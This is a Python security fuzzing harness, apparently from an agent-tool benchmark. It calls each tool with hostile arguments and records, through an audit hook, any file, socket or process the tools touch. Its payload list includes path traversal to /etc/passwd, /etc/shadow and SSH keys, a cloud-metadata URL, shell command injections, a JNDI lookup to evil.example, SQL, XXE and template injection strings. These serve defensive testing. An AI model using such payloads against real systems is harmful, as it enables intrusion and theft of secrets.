"""Process in which tools get hostile arguments and an audit hook records what they touch.

Run as ``python -m tests.security.confined WHAT CALLS_PER_TOOL SEED`` in the folder of the checkout,
with WHAT one of ``executors``, ``travel`` and ``incidents``. An audit hook sees every file, socket,
process, import and piece of code that the interpreter opens, in any module. Prints one JSON object.
"""

import asyncio
import contextlib
import importlib.util
import inspect
import json
import os
import random
import socket
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from langchain_core.tools import StructuredTool

from asyncguard.testing import run_virtual
from asyncguard_benchmark.harness.loading import category_sub_tasks
from asyncguard_benchmark.harness.scenario import Domain, SubTask
from asyncguard_benchmark.services.catalogue import toolsets
from asyncguard_benchmark.services.common_tools import common_tools
from asyncguard_benchmark.services.declarations import Tool
from asyncguard_benchmark.services.service import Executor
from asyncguard_benchmark.suites.hazards.tasks import load_hazard_tasks

WATCHED = (
    "open",
    "os.",
    "socket.",
    "subprocess.",
    "shutil.",
    "tempfile.",
    "glob.",
    "pathlib.",
    "urllib.",
    "http.",
    "ftplib.",
    "smtplib.",
    "sqlite3.",
    "ctypes.",
    "mmap.",
    "fcntl.",
    "pickle.",
    "marshal.",
    "import",
    "exec",
    "compile",
    "pty.",
    "webbrowser.",
)
"""Beginnings of the names of the events that count."""
PLACES = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\boot.ini",
    "\\\\host\\share",
    "~/.ssh/id_rsa",
    "/proc/self/environ",
    "/dev/zero",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]:80/",
    "http://user:password@127.0.0.1:22/",
    "gopher://127.0.0.1:11211/",
    "//evil.example/x",
    "ftp://evil.example",
    "jar:file:///x!/y",
    "data:text/html,x",
    "a\x00b",
    "/tmp/\x00/../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/home/ana/../../../../../../etc/shadow",
    "./" * 200 + "x",
    "/" * 4096,
    "x" * 20_000,
    "'; DROP TABLE latency; --",
    "$(touch /tmp/owned)",
    "`id`",
    "| cat /etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "{0.__class__.__init__.__globals__}",
    "{{7*7}}",
    "%s%s%n",
    "__import__('os').system('id')",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "(a+)+$",
    "\u202e\u2066gpj.exe",
    "\ud800",
    "ﬁle://ﬀ",
    "\u0130\u00df\u1e9e",
    "-rf",
    "--output=/etc/passwd",
    "CON",
    ".",
    "..",
    "\r\nX-Injected: yes",
    "checkout\r\nHost: evil.example",
    "checkout/../primary",
    "",
)
NUMBERS = (0, -1, 1, 2**31, 2**63, 10**18, -(10**18), 10**400, 0.1, -0.0, 1e308, 5e-324)
_CALLS_IN_A_WORLD = 25
_NESTED: tuple[Any, ...] = (None, True, [], {}, [[[[[[]]]]]], {"__class__": "x", "../": "y"})


@dataclass(kw_only=True)
class Watch:
    """An audit hook that notes what is touched while it is armed."""

    allowed: Callable[[str, tuple[Any, ...]], bool] = lambda event, arguments: False
    touched: list[str] = field(default_factory=list)
    armed: bool = False

    def __call__(self, event: str, arguments: tuple[Any, ...]) -> None:
        """See an event of the interpreter."""
        if self.armed and event.startswith(WATCHED) and not self.allowed(event, arguments):
            self.touched.append(f"{event} {arguments!r}"[:300])


def value_for(schema: Mapping[str, Any], chance: random.Random) -> Any:
    """A hostile value; mostly one that the schema takes, as others do not get far."""
    if chance.random() < 0.05:
        return chance.choice(_NESTED)
    if "enum" in schema and chance.random() < 0.9:
        return chance.choice(schema["enum"])
    kinds = schema.get("type", "string")
    match chance.choice(kinds) if isinstance(kinds, list) else kinds:
        case "integer":
            return chance.choice([number for number in NUMBERS if isinstance(number, int)])
        case "number":
            return chance.choice(NUMBERS)
        case "boolean":
            return chance.random() < 0.5
        case "array":
            return [
                value_for(schema.get("items", {}), chance)
                for _ in range(chance.choice((0, 1, 2, 3, 50)))
            ]
        case "object":
            named = {
                name: value_for(each, chance) for name, each in schema.get("properties", {}).items()
            }
            return named or {chance.choice(PLACES): chance.choice(PLACES)}
        case _:
            return chance.choice(PLACES)


def arguments_for(
    parameters: Mapping[str, Any], known: list[Mapping[str, Any]], chance: random.Random
) -> Any:
    """Arguments of a tool: right ones of which one is hostile, or all of them hostile."""
    hostile = {name: value_for(schema, chance) for name, schema in parameters["properties"].items()}
    if known and chance.random() < 0.5:
        right = dict(chance.choice(known))
        name = chance.choice(list(hostile)) if hostile else None
        return right | ({name: hostile[name]} if name is not None else {})
    required = parameters.get("required", ())
    return {
        name: value for name, value in hostile.items() if name in required or chance.random() < 0.7
    }


@dataclass(kw_only=True)
class Told:
    """Report of a run."""

    calls: int = 0
    reached: int = 0
    """Calls that got beyond the check of their arguments."""
    tools: int = 0
    raised: list[str] = field(default_factory=list)
    slowest: float = 0.0
    slow: str = ""

    def timed(self, name: str, arguments: Any, call: Callable[[], Any]) -> None:
        """Make one call and record what it raises."""
        began = time.perf_counter()
        try:
            self.reached += "Invalid arguments" not in str(call())
        except Exception as error:  # noqa: BLE001 - whatever a tool raises is what is looked for
            self.raised.append(f"{name}: {type(error).__name__}: {error}"[:200])
        seconds = time.perf_counter() - began
        self.calls += 1
        if seconds > self.slowest:
            self.slowest, self.slow = seconds, f"{name} {arguments!r}"[:200]


def _worlds() -> Iterator[tuple[Mapping[str, Tool], list[SubTask]]]:
    """Every toolset with the tasks that are played in it."""
    for category, toolset in toolsets().items():
        if isinstance(category, Domain):
            tasks = [task.sub_task for task in load_hazard_tasks(category)]
            yield {**toolset.tools, **common_tools(toolset.tools.values())}, tasks
        else:
            yield toolset.tools, list(category_sub_tasks(category))


def executors(count: int, chance: random.Random, watch: Watch) -> Told:
    """Call every tool of the benchmark."""
    told, worlds = Told(), list(_worlds())
    for (
        tools,
        tasks,
    ) in worlds:  # right calls load lazily loaded modules before the watch begins
        for task in tasks[:30]:
            executor = Executor(tools, task.initial_state)
            for gold in task.gold:
                executor.call(gold.tool, gold.arguments)
    watch.armed = True
    for tools, tasks in worlds:
        told.tools += len(tools)
        _play(tools, tasks, count, chance, told)
    watch.armed = False
    return told


def _play(
    tools: Mapping[str, Tool], tasks: list[SubTask], count: int, chance: random.Random, told: Told
) -> None:
    """Call each tool so often, in any order; what one call leaves behind, the next ones find."""
    right: dict[str, list[Mapping[str, Any]]] = {name: [] for name in tools}
    for gold in (gold for task in tasks for gold in task.gold):
        right[gold.tool].append(gold.arguments)
    names = [name for name in tools for _ in range(count)]
    chance.shuffle(names)
    for number, name in enumerate(names):
        if number % _CALLS_IN_A_WORLD == 0:
            executor = Executor(tools, chance.choice(tasks).initial_state)
        given = arguments_for(tools[name].parameters, right[name], chance)
        told.timed(name, given, partial(executor.call, name, given))


# -- the graphs ----------------------------------------------------------------------------------------------------


def travel(count: int, chance: random.Random, watch: Watch) -> Told:
    """Call every tool of the travel desk, which may append to the file of its effects."""
    told = Told()
    with tempfile.TemporaryDirectory() as folder:
        inbox = SimpleNamespace(deliver=lambda token, content: None)
        tools = (
            _graph("travel_desk").TravelDesk(inbox, effects=Path(folder) / "effects.jsonl").tools()
        )

        async def play() -> None:
            await asyncio.to_thread(int)  # the pool is there now
            watch.allowed, watch.armed = _within(folder), True
            await asyncio.gather(*(_played(tool, count, chance, told) for tool in tools))
            watch.armed = False

        run_virtual(play())
    told.tools = len(tools)
    return told


async def _played(
    tool: Callable[..., Awaitable[Any]], count: int, chance: random.Random, told: Told
) -> None:
    for _ in range(count):
        told.calls += 1
        with contextlib.suppress(ValueError):  # the desk knows no such flight
            await tool(
                **{name: chance.choice(PLACES) for name in inspect.signature(tool).parameters}
            )
            told.reached += 1


def incidents(count: int, chance: random.Random, watch: Watch) -> Told:
    """Call every tool of the incident desk, which has files of its own and a service on the loopback interface."""
    told = Told()
    desk = _graph("incident_desk").IncidentDesk()
    runtime = SimpleNamespace(state={"messages": [], "asyncguard": {"session": "s"}})
    calls = [tool.func if isinstance(tool, StructuredTool) else tool for tool in desk.tools()]
    right = {
        "create_ticket": {"service": "checkout", "title": "down", "severity": 1},
        "find_ticket": {"service": "checkout", "title": "down"},
        "notify": {"channel": "ops", "text": "x", "key": "k"},
        "describe_metrics": {"tool": "query_metrics"},
    }
    for call in calls:
        call(runtime=runtime, **right.get(call.__name__, {"service": "checkout"}))
    watch.allowed = _within(
        desk._world._folder.name, port=int(desk._service.url.rpartition(":")[2])
    )
    watch.armed = True
    for call in calls:
        known = right.get(call.__name__, {"service": "checkout"})
        for _ in range(count):
            given = dict(known) | {
                name: value_for({}, chance) for name in known if chance.random() < 0.6
            }
            try:
                call(runtime=runtime, **given)
                told.reached += 1
            except Exception:  # noqa: BLE001 - refusing is what a desk may do, in whatever words
                pass
            told.calls += 1
    watch.armed = False
    desk.close()
    told.tools = len(calls)
    return told


def _graph(name: str) -> Any:
    """A file of graphs, by its path as LangGraph's server loads it."""
    place = Path(__file__).resolve().parents[2] / "graphs" / f"{name}.py"
    spec = importlib.util.spec_from_file_location(f"{name}_confined", place)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _within(folder: str, port: int | None = None) -> Callable[[str, tuple[Any, ...]], bool]:
    """Return a filter that allows files in a folder and one port of the loopback interface."""
    home = os.path.realpath(folder) + os.sep

    def allowed(event: str, arguments: tuple[Any, ...]) -> bool:
        match event:
            case "open" | "sqlite3.connect":
                return isinstance(arguments[0], str | Path) and os.path.realpath(
                    arguments[0]
                ).startswith(home)
            case "sqlite3.connect/handle" | "socket.__new__":
                return True
            case "socket.connect" if port is not None:
                return bool(arguments[1] == ("127.0.0.1", port))
            case "socket.getaddrinfo" if port is not None:
                return arguments[0] == "127.0.0.1"
            case "socket.bind":
                return False
            case _:
                return False

    return allowed


def control(count: int, chance: random.Random, watch: Watch) -> Told:
    """Touch everything, to show that it is seen."""
    watch.armed = True
    Path("/etc/hostname").exists()
    with contextlib.suppress(OSError):
        Path("/etc/hostname").read_text(encoding="utf-8")
    with socket.socket() as link, contextlib.suppress(OSError):
        link.connect(("127.0.0.1", 9))
    os.listdir("/")  # noqa: PTH208 - the event of the plain function is what is looked for
    eval(compile("1", "made up", "eval"))
    watch.armed = False
    return Told(calls=1)


def main() -> None:
    """Run one part and print what it tells."""
    what, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    watch = Watch()
    sys.addaudithook(watch)
    parts = {part.__name__: part for part in (executors, travel, incidents, control)}
    told = parts[what](count, random.Random(seed), watch)
    sys.stdout.write(json.dumps({**vars(told), "touched": watch.touched}) + "\n")


if __name__ == "__main__":
    main()
